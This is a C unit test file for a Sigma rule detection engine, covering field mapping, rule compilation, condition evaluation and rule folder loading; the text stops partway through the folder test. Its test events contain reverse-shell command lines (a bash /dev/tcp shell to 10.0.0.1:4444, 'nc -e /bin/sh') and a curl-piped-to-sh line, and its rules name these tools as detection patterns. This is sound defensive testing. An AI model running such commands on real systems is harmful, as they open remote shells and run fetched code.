/*
 * tests/unit/test_sigma_engine.c - the Sigma engine (plugins/detector_sigma
 * engine.h, fieldmap.h): the field table, compiling rules against it,
 * "can never match" reports, evaluation of conditions over selections,
 * loading folders, and the modes of `rules test` (any log source, raw field
 * names). Events come from a fake view over an array of name/value pairs.
 */
#define _GNU_SOURCE
#include "engine.h"
#include "fieldmap.h"
#include "rule.h"

#include <rampart/plugin.h>

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <dirent.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "testutil.h"

#include "alloc_count.h"

/* ---- a fake event ---- */

#define FEV_MAX 32

struct fev {
    const struct ds_engine *eng;
    const char *kv[2 * FEV_MAX + 1]; /* name, value, ..., NULL */
    unsigned gets[256];              /* view->get calls per slot */
};

static int fev_get(void *ctx, uint32_t slot, const char **v, size_t *len)
{
    struct fev *e = ctx;
    const char *name = ds_engine_slot_name(e->eng, slot);
    assert_non_null(name);
    if (slot < 256)
        e->gets[slot]++;
    for (size_t i = 0; e->kv[i]; i += 2)
        if (strcmp(e->kv[i], name) == 0) {
            *v = e->kv[i + 1];
            *len = strlen(e->kv[i + 1]);
            return 1;
        }
    return 0;
}

static int fev_str(void *ctx, uint32_t i, const char **v, size_t *len)
{
    struct fev *e = ctx;
    size_t n = 0;
    while (e->kv[n])
        n += 2;
    if (2 * (size_t)i >= n)
        return 0;
    *v = e->kv[2 * i + 1];
    *len = strlen(*v);
    return 1;
}

/* An event of name/value pairs ending with NULL. */
static struct ds_view fev_make(struct fev *e, const struct ds_engine *eng, ...)
{
    memset(e, 0, sizeof(*e));
    e->eng = eng;
    va_list ap;
    va_start(ap, eng);
    size_t n = 0;
    for (const char *s = va_arg(ap, const char *); s; s = va_arg(ap, const char *)) {
        assert_true(n < 2 * FEV_MAX);
        e->kv[n++] = s;
    }
    va_end(ap);
    assert_true(n % 2 == 0);
    return (struct ds_view){.get = fev_get, .string_at = fev_str, .ctx = e};
}

/* ---- helpers ---- */

#define LNX(category)                                                                              \
    "logsource:\n"                                                                                 \
    "    product: linux\n"                                                                         \
    "    category: " category "\n"

/* Loads yaml and adds it; returns the report's status (the report in rep). */
static enum ds_status add_yaml(struct ds_engine *eng, const char *name, const char *yaml,
                               struct ds_report *rep)
{
    struct ds_rule *r = NULL;
    struct ds_load_result res;
    assert_int_equal(ds_rule_load_buffer(name, yaml, strlen(yaml), &r, &res), 0);
    if (!r)
        fail_msg("%s did not load: %s", name, res.msg);
    assert_int_equal(ds_engine_add_rule(eng, r, name, rep, NULL), 0);
    return rep->status;
}

static void add_ok(struct ds_engine *eng, const char *name, const char *yaml)
{
    struct ds_report rep;
    enum ds_status st = add_yaml(eng, name, yaml, &rep);
    if (st != DS_ST_LOADED)
        fail_msg("%s: status %d, reason %s: %s", name, st, ds_reason_name(rep.reason), rep.msg);
}

struct hits {
    char titles[1024];
};

static int on_match(void *ctx, const struct ds_crule *r)
{
    struct hits *h = ctx;
    size_t n = strlen(h->titles);
    snprintf(h->titles + n, sizeof(h->titles) - n, "%s%s", n ? "," : "", ds_crule_rule(r)->title);
    return 0;
}

/* The titles of the rules that match, joined by commas. */
static const char *eval_titles(struct ds_engine *eng, int type, const struct ds_view *v,
                               struct hits *h, struct ds_eval_stats *st)
{
    h->titles[0] = '\0';
    assert_int_equal(ds_engine_eval(eng, type, v, on_match, h, st), 0);
    return h->titles;
}

static struct ds_engine *engine(const struct ds_engine_opts *o)
{
    struct ds_engine *eng = NULL;
    assert_int_equal(ds_engine_create(o, &eng), 0);
    assert_non_null(eng);
    return eng;
}

/* ---- the field table ---- */

static void test_fieldmap(void **state)
{
    (void)state;
    struct ds_fieldmap *m = NULL;
    assert_int_equal(ds_fieldmap_create(&m), 0);
    const struct ds_valuemap *vm = NULL;
    assert_string_equal(ds_fieldmap_get(m, DS_LS_PROCESS_CREATION, "Image", 5, &vm),
                        "process.executable");
    assert_null(vm);
    assert_string_equal(ds_fieldmap_get(m, DS_LS_PROCESS_CREATION, "CommandLine", 11, NULL),
                        "process.command_line");
    assert_string_equal(ds_fieldmap_get(m, DS_LS_PROCESS_CREATION, "ParentImage", 11, NULL),
                        "process.parent.executable");
    assert_string_equal(ds_fieldmap_get(m, DS_LS_FILE_EVENT, "TargetFilename", 14, NULL),
                        "file.path");
    assert_string_equal(
        ds_fieldmap_get(m, DS_LS_NETWORK_CONNECTION, "DestinationHostname", 19, NULL),
        "destination.domain");
    assert_string_equal(ds_fieldmap_get(m, DS_LS_NETWORK_CONNECTION, "DestinationPort", 15, NULL),
                        "destination.port");
    /* Initiated carries a value map to ECS's direction words. */
    assert_string_equal(ds_fieldmap_get(m, DS_LS_NETWORK_CONNECTION, "Initiated", 9, &vm),
                        "network.direction");
    assert_non_null(vm);
    assert_string_equal(vm[0].sigma, "true");
    assert_string_equal(vm[0].ecs, "egress");
    assert_string_equal(vm[1].ecs, "ingress");
    /* Known to have no field here; unknown; an ECS name as written (the
     * caller's own bytes, not NUL-terminated). */
    assert_string_equal(ds_fieldmap_get(m, DS_LS_PROCESS_CREATION, "LogonId", 7, NULL), "");
    assert_string_equal(ds_fieldmap_get(m, DS_LS_PROCESS_CREATION, "OriginalFileName", 16, NULL),
                        "");
    assert_null(ds_fieldmap_get(m, DS_LS_PROCESS_CREATION, "NoSuchField", 11, NULL));
    const char *dotted = "process.name|contains";
    assert_ptr_equal(ds_fieldmap_get(m, DS_LS_PROCESS_CREATION, dotted, 12, NULL), dotted);
    /* Names compare ignoring case; a prefix is not the name. */
    assert_string_equal(ds_fieldmap_get(m, DS_LS_PROCESS_CREATION, "image", 5, NULL),
                        "process.executable");
    assert_null(ds_fieldmap_get(m, DS_LS_PROCESS_CREATION, "Imag", 4, NULL));

    /* Config adds per log source and overrides; the log source entry wins
     * over "*". */
    char err[256];
    assert_int_equal(ds_fieldmap_set(m, "file_event", "Image", "rampart.x", err, sizeof err), 0);
    assert_string_equal(ds_fieldmap_get(m, DS_LS_FILE_EVENT, "Image", 5, NULL), "rampart.x");
    assert_string_equal(ds_fieldmap_get(m, DS_LS_PROCESS_CREATION, "Image", 5, NULL),
                        "process.executable");
    assert_int_equal(ds_fieldmap_set(m, "*", "LogonId", "process.session", err, sizeof err), 0);
    assert_string_equal(ds_fieldmap_get(m, DS_LS_PROCESS_CREATION, "LogonId", 7, NULL),
                        "process.session");
    assert_int_equal(ds_fieldmap_set(m, "*", "Initiated", "network.direction", err, sizeof err), 0);
    assert_string_equal(ds_fieldmap_get(m, DS_LS_NETWORK_CONNECTION, "Initiated", 9, &vm),
                        "network.direction");
    assert_null(vm);
    assert_int_equal(ds_fieldmap_set(m, "registry_event", "X", "y", err, sizeof err), RP_ERR_INVAL);
    assert_non_null(strstr(err, "registry_event"));
    assert_int_equal(ds_fieldmap_set(m, "*", "", "y", err, sizeof err), RP_ERR_INVAL);
    assert_int_equal(ds_fieldmap_set(m, "*", "A B", "y", err, sizeof err), RP_ERR_INVAL);
    assert_non_null(strstr(err, "A B"));
    assert_int_equal(ds_fieldmap_set(m, "*", "X", "a\"b", err, sizeof err), RP_ERR_INVAL);
    /* The cap counts the built-in entries. */
    int rc = 0;
    for (unsigned i = 0; i < DS_FIELDMAP_MAX + 1 && rc == 0; i++) {
        char name[32];
        snprintf(name, sizeof name, "F%u", i);
        rc = ds_fieldmap_set(m, "*", name, "a.b", err, sizeof err);
    }
    assert_int_equal(rc, RP_ERR_RANGE);
    ds_fieldmap_destroy(m);
    ds_fieldmap_destroy(NULL);
}

static void test_event_types(void **state)
{
    (void)state;
    for (int t = 0; t < DS_EV_COUNT; t++) {
        const char *n = ds_event_type_name(t);
        assert_int_equal(ds_event_type_lookup(n, strlen(n)), t);
    }
    assert_string_equal(ds_event_type_name(DS_EV_COUNT), "?");
    assert_int_equal(ds_event_type_lookup("process.exit", 12), -1);
    assert_true(ds_logsource_covers(DS_LS_PROCESS_CREATION, DS_EV_PROCESS_EXEC));
    assert_true(ds_logsource_covers(DS_LS_FILE_EVENT, DS_EV_FILE_RENAME));
    assert_true(ds_logsource_covers(DS_LS_FILE_CHANGE, DS_EV_FILE_MODIFY));
    assert_false(ds_logsource_covers(DS_LS_FILE_EVENT, DS_EV_FILE_DELETE));
    assert_true(ds_logsource_covers(DS_LS_NETWORK_CONNECTION, DS_EV_NETWORK_ACCEPT));
    assert_false(ds_logsource_covers(DS_LS_PROCESS_CREATION, DS_EV_FILE_CREATE));
}

/* ---- evaluation ---- */

static const char rule_revshell[] = "title: revshell\n"
                                    "id: 11111111-0000-0000-0000-000000000001\n" LNX(
                                        "process_creation") "detection:\n"
                                                            "    sel_img:\n"
                                                            "        Image|endswith:\n"
                                                            "            - /bash\n"
                                                            "            - /sh\n"
                                                            "    sel_cmd:\n"
                                                            "        CommandLine|contains: "
                                                            "/dev/tcp/\n"
                                                            "    filter:\n"
                                                            "        ParentImage: /usr/sbin/sshd\n"
                                                            "    condition: all of sel_* and not "
                                                            "filter\n";

static void test_eval_condition(void **state)
{
    (void)state;
    struct ds_engine *eng = engine(NULL);
    add_ok(eng, "revshell.yml", rule_revshell);
    add_ok(eng, "tmpfile.yml",
           "title: tmpfile\n" LNX("file_event") "detection:\n"
                                                "    sel:\n"
                                                "        TargetFilename|startswith: /tmp/\n"
                                                "        TargetFilename|endswith: .sh\n"
                                                "    condition: sel\n");
    add_ok(eng, "list.yml",
           "title: listofmaps\n" LNX("process_creation") "detection:\n"
                                                         "    sel:\n"
                                                         "        - Image: /usr/bin/curl\n"
                                                         "          CommandLine|contains: '| sh'\n"
                                                         "        - Image: /usr/bin/wget\n"
                                                         "    condition: 1 of them\n");
    assert_int_equal(ds_engine_build(eng), 0);
    assert_int_equal(ds_engine_rule_count(eng), 3);

    struct fev e;
    struct hits h;
    struct ds_eval_stats st;
    struct ds_view v = fev_make(&e, eng, "process.executable", "/usr/bin/bash",
                                "process.command_line", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                                "process.parent.executable", "/usr/bin/python3", NULL);
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "revshell");
    assert_int_equal(st.matched, 1);
    /* Of the two process_creation rules only revshell was tested: the
     * index knows listofmaps needs curl or wget. */
    assert_int_equal(st.candidates, 1);
    /* The filter holds: not matched. Case-insensitive by default. */
    v = fev_make(&e, eng, "process.executable", "/bin/BASH", "process.command_line",
                 "bash -i >& /DEV/TCP/10.0.0.1/4444", "process.parent.executable", "/USR/SBIN/SSHD",
                 NULL);
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "");
    v = fev_make(&e, eng, "process.executable", "/bin/BASH", "process.command_line",
                 "bash -i >& /DEV/TCP/10.0.0.1/4444", NULL);
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "revshell");
    /* One selection of the two is not enough (all of). */
    v = fev_make(&e, eng, "process.executable", "/usr/bin/zsh", "process.command_line",
                 "zsh -c 'cat </dev/tcp/x/1'", NULL);
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "");
    /* A list of maps: one of them. */
    v = fev_make(&e, eng, "process.executable", "/usr/bin/wget", NULL);
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "listofmaps");
    v = fev_make(&e, eng, "process.executable", "/usr/bin/curl", "process.command_line",
                 "curl -s http://x | sh", NULL);
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "listofmaps");
    v = fev_make(&e, eng, "process.executable", "/usr/bin/curl", "process.command_line",
                 "curl -o x http://x", NULL);
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "");
    /* The file rule sees file events only, of the types file_event covers. */
    v = fev_make(&e, eng, "file.path", "/tmp/x.sh", NULL);
    assert_string_equal(eval_titles(eng, DS_EV_FILE_CREATE, &v, &h, &st), "tmpfile");
    assert_int_equal(st.candidates, 1);
    assert_string_equal(eval_titles(eng, DS_EV_FILE_RENAME, &v, &h, &st), "tmpfile");
    assert_string_equal(eval_titles(eng, DS_EV_FILE_DELETE, &v, &h, &st), "");
    assert_int_equal(st.candidates, 0);
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "");
    assert_string_equal(eval_titles(eng, -1, &v, &h, &st), "");
    assert_string_equal(eval_titles(eng, DS_EV_COUNT, &v, &h, &st), "");

    /* explain names the selections that hold; eval_rule agrees. */
    v = fev_make(&e, eng, "process.executable", "/usr/bin/bash", "process.command_line",
                 "bash -i >& /dev/tcp/10.0.0.1/4444", "process.parent.executable", "/usr/sbin/sshd",
                 NULL);
    const struct ds_crule *r0 = ds_engine_rule_at(eng, 0);
    char why[128];
    assert_int_equal(ds_engine_explain(eng, r0, &v, why, sizeof why), 0);
    assert_string_equal(why, "sel_img, sel_cmd, filter");
    assert_false(ds_engine_eval_rule(eng, r0, &v));
    char tiny[8];
    assert_int_equal(ds_engine_explain(eng, r0, &v, tiny, sizeof tiny), 0);
    assert_string_equal(tiny, "sel_img");
    v = fev_make(&e, eng, "process.executable", "/usr/bin/bash", "process.command_line",
                 "bash -i >& /dev/tcp/10.0.0.1/4444", NULL);
    assert_true(ds_engine_eval_rule(eng, r0, &v));
    assert_null(ds_engine_rule_at(eng, 3));
    assert_int_equal(ds_crule_index(ds_engine_rule_at(eng, 2)), 2);
    assert_string_equal(ds_crule_path(r0), "revshell.yml");
    assert_false(ds_crule_dead(r0));
    assert_true(ds_engine_memory(eng) > 0);
    /* Adding after the build is refused. */
    struct ds_rule *late = NULL;
    struct ds_load_result res;
    assert_int_equal(
        ds_rule_load_buffer("late.yml", rule_revshell, strlen(rule_revshell), &late, &res), 0);
    assert_int_equal(ds_engine_add_rule(eng, late, "late.yml", NULL, NULL), RP_ERR_BUSY);
    ds_engine_destroy(eng);
    ds_engine_destroy(NULL);
}

/* Values typed by YAML and the value map: a port written as a number
 * matches the decimal text; Initiated: 'true' means egress. */
static void test_values_and_valuemap(void **state)
{
    (void)state;
    struct ds_engine *eng = engine(NULL);
    add_ok(eng, "net.yml",
           "title: net\n" LNX("network_connection") "detection:\n"
                                                    "    sel:\n"
                                                    "        Initiated: 'true'\n"
                                                    "        DestinationPort:\n"
                                                    "            - 4444\n"
                                                    "            - 1337\n"
                                                    "    condition: sel\n");
    add_ok(eng, "in.yml",
           "title: inbound\n" LNX("network_connection") "detection:\n"
                                                        "    sel:\n"
                                                        "        Initiated: false\n"
                                                        "        DestinationIp|cidr: 10.0.0.0/8\n"
                                                        "    condition: sel\n");
    assert_int_equal(ds_engine_build(eng), 0);
    struct fev e;
    struct hits h;
    struct ds_view v = fev_make(&e, eng, "network.direction", "egress", "destination.port", "4444",
                                "destination.ip", "10.1.2.3", NULL);
    assert_string_equal(eval_titles(eng, DS_EV_NETWORK_CONNECT, &v, &h, NULL), "net");
    v = fev_make(&e, eng, "network.direction", "ingress", "destination.port", "4444",
                 "destination.ip", "10.1.2.3", NULL);
    assert_string_equal(eval_titles(eng, DS_EV_NETWORK_ACCEPT, &v, &h, NULL), "inbound");
    v = fev_make(&e, eng, "network.direction", "egress", "destination.port", "443", NULL);
    assert_string_equal(eval_titles(eng, DS_EV_NETWORK_CONNECT, &v, &h, NULL), "");
    ds_engine_destroy(eng);
}

/* Keywords search every string value; `all` finds each value somewhere. */
static void test_keywords(void **state)
{
    (void)state;
    struct ds_engine *eng = engine(NULL);
    add_ok(eng, "kw.yml",
           "title: kw\n" LNX("process_creation") "detection:\n"
                                                 "    keywords:\n"
                                                 "        - 'nc -e'\n"
                                                 "        - 'ncat -e'\n"
                                                 "    condition: keywords\n");
    add_ok(eng, "kwall.yml",
           "title: kwall\n" LNX("process_creation") "detection:\n"
                                                    "    kw:\n"
                                                    "        '|all':\n"
                                                    "            - '*chmod*'\n"
                                                    "            - '*/tmp/*'\n"
                                                    "    condition: kw\n");
    assert_int_equal(ds_engine_build(eng), 0);
    struct fev e;
    struct hits h;
    struct ds_view v = fev_make(&e, eng, "process.executable", "/usr/bin/nc",
                                "process.command_line", "nc -e /bin/sh 10.0.0.1 1", NULL);
    /* Keywords are searched in the values, as SIEM backends search text. */
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, NULL), "kw");
    v = fev_make(&e, eng, "process.executable", "/usr/bin/nc", "process.args", "NC -E", NULL);
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, NULL), "kw");
    v = fev_make(&e, eng, "process.executable", "/usr/bin/nc", "process.args", "nc -x", NULL);
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, NULL), "");
    v = fev_make(&e, eng, "process.executable", "/usr/bin/chmod", "process.working_directory",
                 "/tmp/x", NULL);
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, NULL), "kwall");
    v = fev_make(&e, eng, "process.executable", "/usr/bin/chmod", NULL);
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, NULL), "");
    ds_engine_destroy(eng);
}

static void test_fieldref_and_memo(void **state)
{
    (void)state;
    struct ds_engine *eng = engine(NULL);
    add_ok(eng, "ref.yml",
           "title: ref\n" LNX("process_creation") "detection:\n"
                                                  "    sel:\n"
                                                  "        Image|fieldref: ParentImage\n"
                                                  "    a:\n"
                                                  "        CommandLine|contains: x\n"
                                                  "    b:\n"
                                                  "        CommandLine|contains: y\n"
                                                  "    condition: sel and (a or b) and not "
                                                  "(a and b) or (sel and a)\n");
    assert_int_equal(ds_engine_build(eng), 0);
    struct fev e;
    struct hits h;
    struct ds_view v =
        fev_make(&e, eng, "process.executable", "/usr/bin/bash", "process.parent.executable",
                 "/USR/BIN/BASH", "process.command_line", "x y", NULL);
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, NULL), "ref");
    /* Each field was asked once although the condition reads a twice. */
    for (uint32_t s = 0; s < ds_engine_slot_count(eng); s++)
        assert_in_range(e.gets[s], 0, 1);
    v = fev_make(&e, eng, "process.executable", "/usr/bin/bash", "process.parent.executable",
                 "/usr/bin/sh", "process.command_line", "x", NULL);
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, NULL), "");
    v = fev_make(&e, eng, "process.executable", "/usr/bin/bash", "process.command_line", "x", NULL);
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, NULL), "");
    ds_engine_destroy(eng);
}

/* ---- "can never match" ---- */

/* What the collectors fill, by event type: a small copy of their provides
 * lists, enough for these rules. */
static int fake_filled(void *ctx, int type, const char *field)
{
    (void)ctx;
    static const char *const proc[] = {"process.executable", "process.command_line",
                                       "process.parent.executable", "user.name", NULL};
    static const char *const file[] = {"file.path", "process.executable", NULL};
    const char *const *list = type == DS_EV_PROCESS_EXEC                                 ? proc
                              : (type >= DS_EV_FILE_CREATE && type <= DS_EV_FILE_DELETE) ? file
                                                                                         : NULL;
    for (size_t i = 0; list && list[i]; i++)
        if (strcmp(list[i], field) == 0)
            return 1;
    return 0;
}

static void test_can_never_match(void **state)
{
    (void)state;
    struct ds_engine_opts o = {.filled = fake_filled};
    struct ds_engine *eng = engine(&o);
    struct ds_report rep;
    /* A file rule on the parent's image: no file event has it. */
    assert_int_equal(add_yaml(eng, "parent.yml",
                              "title: parent\n" LNX("file_event") "detection:\n"
                                                                  "    sel:\n"
                                                                  "        ParentImage: /x\n"
                                                                  "        TargetFilename: /y\n"
                                                                  "    condition: sel\n",
                              &rep),
                     DS_ST_DEAD);
    assert_int_equal(rep.reason, DS_LOADED);
    assert_non_null(rep.rule);
    assert_string_equal(rep.msg, "can never match: field process.parent.executable (Sigma "
                                 "ParentImage) is not filled for file_event");
    /* Windows metadata and an unknown name: both named. */
    assert_int_equal(add_yaml(eng, "pe.yml",
                              "title: pe\n" LNX("process_creation") "detection:\n"
                                                                    "    a:\n"
                                                                    "        OriginalFileName: x\n"
                                                                    "    b:\n"
                                                                    "        Foo: y\n"
                                                                    "    condition: a or b\n",
                              &rep),
                     DS_ST_DEAD);
    assert_non_null(strstr(rep.msg, "can never match: field OriginalFileName (Sigma "
                                    "OriginalFileName) has no ECS field"));
    assert_non_null(strstr(rep.msg, "; field Foo (Sigma Foo) has no ECS mapping for "
                                    "process_creation"));
    /* Only in a filter: the rule can still match and loads. */
    add_ok(eng, "filter.yml",
           "title: filtered\n" LNX("process_creation") "detection:\n"
                                                       "    sel:\n"
                                                       "        Image|endswith: /whoami\n"
                                                       "    filter:\n"
                                                       "        LogonId: '0x3e7'\n"
                                                       "    condition: sel and not filter\n");
    /* null and exists: false hold on an absent field. */
    add_ok(eng, "null.yml",
           "title: nullok\n" LNX("process_creation") "detection:\n"
                                                     "    sel:\n"
                                                     "        Image|endswith: /id\n"
                                                     "        LogonId: null\n"
                                                     "        Company|exists: false\n"
                                                     "    condition: sel\n");
    /* The negation of a selection on an absent field always holds: the
     * rule loads and matches every exec. */
    add_ok(eng, "notonly.yml",
           "title: notonly\n" LNX("process_creation") "detection:\n"
                                                      "    sel:\n"
                                                      "        Company: x\n"
                                                      "    condition: not sel\n");
    assert_int_equal(ds_engine_build(eng), 0);
    assert_int_equal(ds_engine_rule_count(eng), 5);
    assert_true(ds_crule_dead(ds_engine_rule_at(eng, 0)));
    struct fev e;
    struct hits h;
    struct ds_eval_stats st;
    struct ds_view v =
        fev_make(&e, eng, "process.executable", "/usr/bin/whoami", "file.path", "/y", NULL);
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "filtered,notonly");
    /* Dead rules are not in any bucket: never tested; nullok needs /id,
     * notonly (no requirement) runs on every exec. */
    assert_int_equal(st.candidates, 2);
    v = fev_make(&e, eng, "process.executable", "/usr/bin/id", NULL);
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "nullok,notonly");
    v = fev_make(&e, eng, "file.path", "/y", "process.parent.executable", "/x", NULL);
    assert_string_equal(eval_titles(eng, DS_EV_FILE_CREATE, &v, &h, &st), "");
    assert_false(ds_engine_eval_rule(eng, ds_engine_rule_at(eng, 0), &v));
    ds_engine_destroy(eng);

    /* Without a filled callback every mapped field counts as filled. */
    eng = engine(NULL);
    assert_int_equal(add_yaml(eng, "parent.yml",
                              "title: parent\n" LNX("file_event") "detection:\n"
                                                                  "    sel:\n"
                                                                  "        ParentImage: /x\n"
                                                                  "    condition: sel\n",
                              &rep),
                     DS_ST_LOADED);
    ds_engine_destroy(eng);
}

/* Compile errors the loader cannot see: a regex PCRE2 refuses, an expand
 * placeholder config lacks. */
static void test_compile_errors(void **state)
{
    (void)state;
    struct ds_engine *eng = engine(NULL);
    struct ds_report rep;
    assert_int_equal(add_yaml(eng, "re.yml",
                              "title: re\n" LNX("process_creation") "detection:\n"
                                                                    "    sel:\n"
                                                                    "        CommandLine|re: "
                                                                    "'a(b'\n"
                                                                    "    condition: sel\n",
                              &rep),
                     DS_ST_SKIPPED);
    assert_int_equal(rep.reason, DS_SKIP_BAD_MODIFIER);
    assert_non_null(strstr(rep.msg, "re.yml:7:9: detection.sel.CommandLine|re: "));
    assert_non_null(strstr(rep.msg, "missing closing parenthesis"));
    assert_null(rep.rule);
    assert_int_equal(add_yaml(eng, "exp.yml",
                              "title: exp\n" LNX("process_creation") "detection:\n"
                                                                     "    sel:\n"
                                                                     "        Image|expand: "
                                                                     "'%admins%'\n"
                                                                     "    condition: sel\n",
                              &rep),
                     DS_ST_SKIPPED);
    assert_int_equal(rep.reason, DS_SKIP_PLACEHOLDER);
    assert_string_equal(ds_reason_name(DS_SKIP_PLACEHOLDER), "placeholder_unset");
    assert_non_null(strstr(rep.msg, "%admins%"));
    assert_int_equal(ds_engine_rule_count(eng), 0);
    ds_engine_destroy(eng);

    /* With the placeholder configured it compiles. */
    static const char *const admins[] = {"/usr/sbin/visudo", "/usr/bin/sudo"};
    struct ds_placeholder ph = {.name = "admins", .values = admins, .nvalues = 2};
    struct ds_engine_opts o = {.match = {.placeholders = &ph, .nplaceholders = 1}};
    eng = engine(&o);
    add_ok(eng, "exp.yml",
           "title: exp\n" LNX("process_creation") "detection:\n"
                                                  "    sel:\n"
                                                  "        Image|expand: '%admins%'\n"
                                                  "    condition: sel\n");
    assert_int_equal(ds_engine_build(eng), 0);
    struct fev e;
    struct hits h;
    struct ds_view v = fev_make(&e, eng, "process.executable", "/usr/bin/sudo", NULL);
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, NULL), "exp");
    ds_engine_destroy(eng);
}

/* ---- modes of `rules test` ---- */

static void test_any_logsource_raw_fields(void **state)
{
    (void)state;
    static const char win[] = "title: win\n"
                              "logsource:\n"
                              "    product: windows\n"
                              "    service: security\n"
                              "detection:\n"
                              "    sel:\n"
                              "        EventID: 4688\n"
                              "        NewProcessName|endswith: '\\cmd.exe'\n"
                              "    condition: sel\n";
    /* The plain engine refuses it for its log source. */
    struct ds_engine *eng = engine(NULL);
    struct ds_rule *r = NULL;
    struct ds_load_result res;
    assert_int_equal(ds_rule_load_buffer("win.yml", win, strlen(win), &r, &res), 0);
    assert_null(r);
    assert_int_equal(res.reason, DS_SKIP_NOT_LINUX);
    ds_engine_destroy(eng);

    char dir[128], path[256];
    assert_int_equal(tu_mkdtemp("sigeng", dir, sizeof dir), 0);
    assert_non_null(tu_path(path, sizeof path, dir, "win.yml"));
    assert_int_equal(tu_write(path, win), 0);
    struct ds_engine_opts o = {.any_logsource = true, .raw_fields = true};
    eng = engine(&o);
    assert_int_equal(ds_engine_add_file(eng, path, NULL, NULL, NULL), 0);
    assert_int_equal(ds_engine_build(eng), 0);
    assert_int_equal(ds_engine_rule_count(eng), 1);
    struct fev e;
    struct hits h;
    struct ds_view v = fev_make(&e, eng, "EventID", "4688", "NewProcessName",
                                "C:\\Windows\\System32\\cmd.exe", NULL);
    assert_string_equal(eval_titles(eng, -1, &v, &h, NULL), "win");
    /* Whatever type the caller names, every rule runs. */
    assert_string_equal(eval_titles(eng, DS_EV_FILE_CREATE, &v, &h, NULL), "win");
    v = fev_make(&e, eng, "EventID", "4689", "NewProcessName", "C:\\cmd.exe", NULL);
    assert_string_equal(eval_titles(eng, -1, &v, &h, NULL), "");
    ds_engine_destroy(eng);

    /* any_logsource with mapping: a Windows process_creation rule on Image
     * runs against ECS events. */
    static const char winproc[] = "title: winproc\n"
                                  "logsource:\n"
                                  "    product: windows\n"
                                  "    category: process_creation\n"
                                  "detection:\n"
                                  "    sel:\n"
                                  "        Image|endswith: '\\whoami.exe'\n"
                                  "    condition: sel\n";
    assert_int_equal(tu_write(path, winproc), 0);
    o.raw_fields = false;
    eng = engine(&o);
    assert_int_equal(ds_engine_add_file(eng, path, NULL, NULL, NULL), 0);
    assert_int_equal(ds_engine_build(eng), 0);
    v = fev_make(&e, eng, "process.executable", "C:\\Windows\\whoami.exe", NULL);
    assert_string_equal(eval_titles(eng, -1, &v, &h, NULL), "winproc");
    ds_engine_destroy(eng);
    tu_rm_rf(dir);
}

/* ---- folders ---- */

struct seen {
    char log[4096];
    unsigned by_status[4];
};

static void on_report(void *ctx, const struct ds_report *rep)
{
    struct seen *s = ctx;
    s->by_status[rep->status]++;
    const char *base = strrchr(rep->path, '/');
    size_t n = strlen(s->log);
    snprintf(s->log + n, sizeof(s->log) - n, "%s %d %s|%s\n", base ? base + 1 : rep->path,
             rep->status, ds_reason_name(rep->reason), rep->msg);
}

static bool accept_not_disabled(void *ctx, const struct ds_rule *rule, const char *relpath,
                                char *why, size_t whylen)
{
    (void)ctx;
    (void)rule;
    if (strcmp(relpath, "sub/off.yml") == 0) {
        snprintf(why, whylen, "disabled by folder sub");
        return false;
    }
    return true;
}

static const char *simple_rule(char *buf, size_t len, const char *title, const char *id)
{
    snprintf(buf, len,
             "title: %s\n"
             "id: %s\n" LNX("process_creation") "detection:\n"
                                                "    sel:\n"
                                                "        Image|endswith: /%s\n"
                                                "    condition: sel\n",
             title, id, title);
    return buf;
}

static void test_add_dir(void **state)
{
    (void)state;
    char dir[128], p[512], sub[256], deep[256], y[1024];
    assert_int_equal(tu_mkdtemp("sigdir", dir, sizeof dir), 0);
    snprintf(sub, sizeof sub, "%s/sub", dir);
    snprintf(deep, sizeof deep, "%s/sub/deeper", dir);
    assert_int_equal(mkdir(sub, 0700), 0);
    assert_int_equal(mkdir(deep, 0700), 0);
    snprintf(p, sizeof p, "%s/b.yml", dir);
    assert_int_equal(tu_write(p, simple_rule(y, sizeof y, "bee", "id-b")), 0);
    snprintf(p, sizeof p, "%s/a.yaml", dir);
    assert_int_equal(tu_write(p, simple_rule(y, sizeof y, "ay", "id-a")), 0);
    snprintf(p, sizeof p, "%s/notes.txt", dir);
    assert_int_equal(tu_write(p, "not a rule"), 0);
    snprintf(p, sizeof p, "%s/sub/c.yml", dir);
    assert_int_equal(tu_write(p, simple_rule(y, sizeof y, "sea", "id-b")), 0);
    snprintf(p, sizeof p, "%s/sub/off.yml", dir);
    assert_int_equal(tu_write(p, simple_rule(y, sizeof y, "off", "id-off")), 0);
    snprintf(p, sizeof p, "%s/sub/deeper/d.yml", dir);
    assert_int_equal(tu_write(p, simple_rule(y, sizeof y, "dee", "id-d")), 0);
    snprintf(p, sizeof p, "%s/sub/bad.yml", dir);
    assert_int_equal(tu_write(p, "title: [\n"), 0);
    /* A symbolic link to a rule outside: never followed. */
    char outside[128], target[256];
    assert_int_equal(tu_mkdtemp("sigout", outside, sizeof outside), 0);
    snprintf(target, sizeof target, "%s/evil.yml", outside);
